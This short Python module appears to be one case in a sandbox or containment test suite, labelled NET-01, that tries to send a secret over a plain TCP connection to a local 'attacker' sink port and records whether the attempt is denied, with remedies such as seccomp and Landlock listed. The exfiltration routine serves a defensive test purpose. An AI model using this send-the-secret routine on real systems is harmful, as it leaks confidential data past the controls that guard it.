# SPDX-License-Identifier: MIT
"""Goal:  bytes reach the attacker's host.
Means: a TCP connection, the plain way, against which the others are measured.
"""

import socket

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        with socket.create_connection(("127.0.0.1", brief.sink), timeout=3) as sink:
            sink.sendall(brief.secret.encode())
    except OSError as why:
        return denied("TCP", why)
    return DONE


ATTACK = {
    "effect": "bytes reach the attacker's host",
    "means": "TCP: connect and send",
    "oracle": "sink",
    "quick": True,
    "id": "NET-01",
    "attack_id": "T1041, CWE-668",
    "remedy": "seccomp without socket(2); Landlock without connecting; a network namespace",
    "run": run,
}
